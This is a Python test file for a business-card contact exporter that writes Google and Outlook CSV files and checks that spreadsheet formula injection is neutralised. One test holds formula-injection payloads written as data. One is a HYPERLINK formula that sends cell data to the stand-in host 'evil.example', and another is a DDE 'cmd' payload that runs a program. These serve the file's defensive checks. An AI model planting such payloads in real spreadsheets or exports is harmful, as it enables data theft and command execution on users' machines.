"""CSV files that Google Contacts and Outlook import, and spreadsheets cannot be attacked through."""
from __future__ import annotations

import csv
import io
import re

from hypothesis import given, settings
from hypothesis import strategies as st

from cardcap.export.csvout import (
    FORMULA_START,
    OUTLOOK_HEADER,
    contacts_to_google_csv,
    contacts_to_outlook_csv,
    neutralise_cell,
    phone_cell,
)
from cardcap.model import Address, Contact, NameParts, Phone


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def sample() -> Contact:
    return Contact(
        name="Chris Smith",
        name_parts=NameParts(given="Chris", family="Smith"),
        title="Senior Researcher",
        department="Cloud & AI Department",
        company="Contoso, Inc.",
        emails=["chris.smith@contoso.com", "chris@contoso.com"],
        phones=[Phone("+19871234567", "mobile", "(987) 123-4567"), Phone("+19873126745", "fax"),
                Phone("+19875550100", "work"), Phone("+19875550101", "work")],
        address=Address("4001 1st Ave NE, Redmond, WA 98052", "4001 1st Ave NE", "Redmond", "WA", "98052", "US"),
        urls=["https://www.contoso.com"],
        notes=["met at the career fair"],
        image="cards/contoso.jpg",
    )


def test_google_layout_and_values():
    text = contacts_to_google_csv([sample(), Contact(name="Ana Silva")])
    header = text.split("\r\n", 1)[0].split(",")
    assert header[:3] == ["First Name", "Middle Name", "Last Name"]
    assert "Organization Name" in header and "E-mail 1 - Label" in header
    assert header.count("Phone 4 - Value") == 1 and "Phone 5 - Value" not in header
    [chris, ana] = read(text)
    assert (chris["First Name"], chris["Last Name"]) == ("Chris", "Smith")
    assert chris["Organization Name"] == "Contoso, Inc." and chris["Organization Title"] == "Senior Researcher"
    assert chris["Organization Department"] == "Cloud & AI Department"
    assert (chris["E-mail 2 - Label"], chris["E-mail 2 - Value"]) == ("Work", "chris@contoso.com")
    assert (chris["Phone 1 - Label"], chris["Phone 1 - Value"]) == ("Mobile", "+1 987-123-4567")
    assert (chris["Phone 2 - Label"], chris["Phone 2 - Value"]) == ("Work Fax", "+1 987-312-6745")
    assert chris["Address 1 - City"] == "Redmond" and chris["Address 1 - Postal Code"] == "98052"
    assert chris["Address 1 - Formatted"] == "4001 1st Ave NE, Redmond, WA 98052"
    assert chris["Website 1 - Value"] == "https://www.contoso.com"
    assert chris["Notes"] == "Source photo: cards/contoso.jpg\nmet at the career fair"
    assert ana["First Name"] == "Ana Silva"  # no parts: the full name still shows
    assert not text.startswith("\ufeff")


def test_outlook_layout_and_values():
    text = contacts_to_outlook_csv([sample()])
    assert text.startswith("\ufeffFirst Name,Middle Name,Last Name,Title,Suffix,")
    [row] = read(text)
    assert list(row) == OUTLOOK_HEADER and len(OUTLOOK_HEADER) == 61
    assert row["Company"] == "Contoso, Inc." and row["Job Title"] == "Senior Researcher"
    assert row["Mobile Phone"] == "+1 987-123-4567" and row["Business Fax"] == "+1 987-312-6745"
    assert row["Business Phone"] == "+1 987-555-0100" and row["Business Phone 2"] == "+1 987-555-0101"
    assert row["E-mail Address"] == "chris.smith@contoso.com" and row["E-mail 2 Address"] == "chris@contoso.com"
    assert row["Business Street"] == "4001 1st Ave NE" and row["Business State"] == "WA"
    assert row["Web Page"] == "https://www.contoso.com"


def test_outlook_keeps_what_has_no_column_in_notes():
    c = Contact(name="A", emails=[f"a{i}@x.com" for i in range(4)],
                phones=[Phone(f"+1987555010{i}", "fax") for i in range(3)],
                urls=["https://a.com", "https://b.com"])
    [row] = read(contacts_to_outlook_csv([c]))
    assert row["E-mail 3 Address"] == "a2@x.com"
    assert row["Other Fax"] == "+1 987-555-0101"
    assert "E-mail: a3@x.com" in row["Notes"] and "Fax phone: +1 987-555-0102" in row["Notes"]
    assert "Web page: https://b.com" in row["Notes"]


def test_unparsed_address_goes_to_street():
    c = Contact(name="A", address=Address("Rua Augusta 1, São Paulo"))
    [row] = read(contacts_to_outlook_csv([c]))
    assert row["Business Street"] == "Rua Augusta 1, São Paulo"


def test_formula_cells_get_an_apostrophe():
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    c = Contact(name=evil, company="+cmd|' /C calc'!A0", title="-2+3", department="@SUM(A1)",
                notes=["\tTAB"], phones=[Phone("=1+2", "work"), Phone("+1 (987) 555-0100 ext=1", "mobile")])
    for text in (contacts_to_google_csv([c]), contacts_to_outlook_csv([c])):
        [row] = read(text)
        cells = [v for v in row.values() if v]
        assert "'" + evil in cells and "'+cmd|' /C calc'!A0" in cells and "'-2+3" in cells
        assert "'=1+2" in cells and "'@SUM(A1)" in cells
        assert not any(v.startswith(FORMULA_START) and not re.fullmatch(r"\+\d[\d ()\-.]*", v) for v in cells)


def test_phone_cells_stay_importable():
    assert phone_cell("+5511987654321") == "+55 11 98765-4321"
    assert phone_cell("(11) 3333-4444") == "(11) 3333-4444"
    assert phone_cell("+55 11 3333-4444 =cmd") == "'+55 11 3333-4444 =cmd"
    assert neutralise_cell("－1") == "'－1"  # full-width minus, which some spreadsheets also evaluate
    assert neutralise_cell("Ana") == "Ana" and neutralise_cell(None) == ""


text = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=25)
maybe = st.none() | text


@st.composite
def contacts(draw) -> Contact:
    return Contact(
        name=draw(maybe),
        name_parts=NameParts(*(draw(maybe) for _ in range(5))),
        title=draw(maybe), department=draw(maybe), company=draw(maybe),
        emails=draw(st.lists(text, max_size=4)),
        phones=[Phone(draw(st.one_of(text, st.from_regex(r"\A\+[1-9]\d{7,12}\Z"))),
                      draw(st.sampled_from(["work", "mobile", "fax", "home", "other"])))
                for _ in range(draw(st.integers(0, 5)))],
        address=draw(st.none() | st.builds(Address, text, maybe, maybe, maybe, maybe, maybe)),
        urls=draw(st.lists(text, max_size=2)),
        notes=draw(st.lists(text, max_size=2)),
        image=draw(maybe),
    )


@settings(max_examples=100, deadline=None)
@given(st.lists(contacts(), max_size=4))
def test_any_contacts_give_rectangular_csv_without_live_formulas(cs):
    for text in (contacts_to_google_csv(cs), contacts_to_outlook_csv(cs)):
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
        assert len(rows) == len(cs) + 1
        assert {len(r) for r in rows} == {len(rows[0])}
        for row in rows[1:]:
            for cell in row:
                if cell.startswith(FORMULA_START):
                    assert re.fullmatch(r"\+\d[\d ()\-.]*", cell), cell


def test_an_extension_follows_the_number_after_a_pause():
    from cardcap.export.csvout import contacts_to_google_csv, contacts_to_outlook_csv
    from cardcap.model import Contact, Phone

    contact = Contact(name="Jane Doe", phones=[Phone(number="+14155550101", type="work", extension="204")])
    assert '"+1 415-555-0101,204"' in contacts_to_google_csv([contact])
    assert '"+1 415-555-0101,204"' in contacts_to_outlook_csv([contact])
